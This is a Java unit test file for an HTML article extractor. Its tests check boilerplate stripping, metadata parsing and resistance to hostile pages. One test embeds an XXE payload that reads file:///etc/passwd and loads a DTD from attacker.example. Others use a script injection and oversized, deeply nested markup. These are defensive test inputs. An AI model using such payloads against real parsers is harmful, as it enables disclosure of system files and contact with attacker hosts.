package io.themewire.ingest.extract;

import static org.assertj.core.api.Assertions.assertThat;

import io.themewire.core.message.Published;
import io.themewire.ingest.Fixtures;
import java.time.Instant;
import org.junit.jupiter.api.Test;

class ArticleExtractorTest {

  private final ArticleExtractor extractor = new ArticleExtractor();

  @Test
  void extract_keepsTheArticleAndDropsPageChrome() {
    Article a = extractor.extract(Fixtures.text("article.html"), null);

    assertThat(a.text())
        .startsWith("After six years as an engineering manager")
        .contains("What I miss")
        .endsWith("writing a long document about it.")
        .doesNotContain(
            "cookies",
            "Popular posts",
            "Share on",
            "12 comments",
            "All rights reserved",
            "Archive");
  }

  @Test
  void extract_readsMetadataFromJsonLdAndCanonicalLink() {
    Article a = extractor.extract(Fixtures.text("article.html"), null);

    assertThat(a.title()).isEqualTo("Going back to IC after six years");
    assertThat(a.byline()).isEqualTo("Priya Raman");
    assertThat(a.published())
        .isEqualTo(
            new Published(
                Instant.parse("2026-11-10T12:45:00Z"), Published.Provenance.JSON_LD, 0.95));
    assertThat(a.canonicalUrl().value()).isEqualTo("https://keel.example/posts/back-to-ic");
    assertThat(a.language()).isEqualTo("en");
    assertThat(a.siteName()).isEqualTo("The Keel");
  }

  @Test
  void extract_emptyOrHostileInputNeverThrows() {
    assertThat(extractor.extract("", null).text()).isEmpty();
    assertThat(extractor.extract("<div>".repeat(20_000) + "deep", null).text()).contains("deep");
    assertThat(
            extractor
                .extract("<script>alert(1)</script><p>" + "word ".repeat(80) + "</p>", null)
                .text())
        .doesNotContain("alert");
  }

  @Test
  void extract_xxePrologueNeitherLeaksNorResolves() {
    String prose = "The committee met on Tuesday and agreed the budget after a long debate. ";
    String page =
        "<?xml version=\"1.0\"?>\n<!DOCTYPE html [\n"
            + "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n"
            + "  <!ENTITY % remote SYSTEM \"http://attacker.example/x.dtd\">\n]>\n"
            + "<html><body><article><p>"
            + prose.repeat(3)
            + "Signed &xxe; today.</p><p>"
            + prose.repeat(2)
            + "</p></article></body></html>";

    for (String text :
        java.util.List.of(
            extractor.extract(page, "https://news.example/a").text(),
            extractor
                .extract(
                    page.getBytes(java.nio.charset.StandardCharsets.UTF_8),
                    null,
                    "https://news.example/a")
                .text())) {
      assertThat(text).contains("The committee met on Tuesday").contains("Signed today.");
      assertThat(text).doesNotContain("]>").doesNotContain("&xxe;").doesNotContain("root:");
      assertThat(text).doesNotContain("ENTITY");
    }
  }

  @Test
  void htmlText_keepsParagraphsAndCollapsesSpace() {
    assertThat(
            HtmlText.fromHtml(
                "<p>One\n   two</p><p>Three<br>four</p><ul><li>a</li><li>b</li></ul>"))
        .isEqualTo("One two\n\nThree\nfour\n\na\n\nb");
  }

  @Test
  void extract_hostilePages_finishWithoutBlowingTheStack() {
    String deep =
        "<div>".repeat(100_000) + "<p>" + "Deep text that is the only prose. ".repeat(5) + "</p>";
    assertThat(extractor.extract(deep, null).text()).contains("Deep text");

    String hugeAttribute =
        "<p title=\""
            + "x".repeat(5_000_000)
            + "\">"
            + "A real paragraph of text here. ".repeat(4)
            + "</p>";
    assertThat(extractor.extract(hugeAttribute, null).text()).startsWith("A real paragraph");
  }

  @Test
  void extract_scatteredParagraphsAreGatheredAndTeasersLeftOut() {
    String html =
        "<body><div class=\"story\">"
            + "<div class=\"block\"><p>"
            + "First part of the story, told at some length here. ".repeat(3)
            + "</p></div>"
            + "<div class=\"block\"><p>"
            + "Second part of the story, also told at length here. ".repeat(3)
            + "</p></div>"
            + "</div><ul class=\"more-stories\"><li><a href=\"/a\">Another headline that is a link</a></li>"
            + "<li><a href=\"/b\">Yet another headline that is a link</a></li></ul></body>";

    String text = extractor.extract(html, null).text();

    assertThat(text).contains("First part").contains("Second part").doesNotContain("headline");
  }

  @Test
  void extract_teaserCardsWithProseSummariesAreLeftOut() {
    StringBuilder cards = new StringBuilder("<div class=\"box\">");
    for (int i = 0; i < 4; i++) {
      cards
          .append("<div class=\"item\"><h3><a href=\"/s")
          .append(i)
          .append("\">Another story headline number ")
          .append(i)
          .append(
              "</a></h3><p>A teaser summary that reads like prose, long enough to look like a paragraph.</p></div>");
    }
    cards.append("</div>");
    String html =
        "<body><main><div class=\"wrap\"><div class=\"body\">"
            + "<p>"
            + "The article itself begins here and goes on for a while with real content. ".repeat(4)
            + "</p>"
            + "<p>"
            + "It continues in a second paragraph with more of the same reporting. ".repeat(4)
            + "</p>"
            + "</div>"
            + cards
            + "</div></main></body>";

    String text = extractor.extract(html, null).text();

    assertThat(text)
        .contains("The article itself")
        .contains("second paragraph")
        .doesNotContain("teaser", "headline");
  }
}
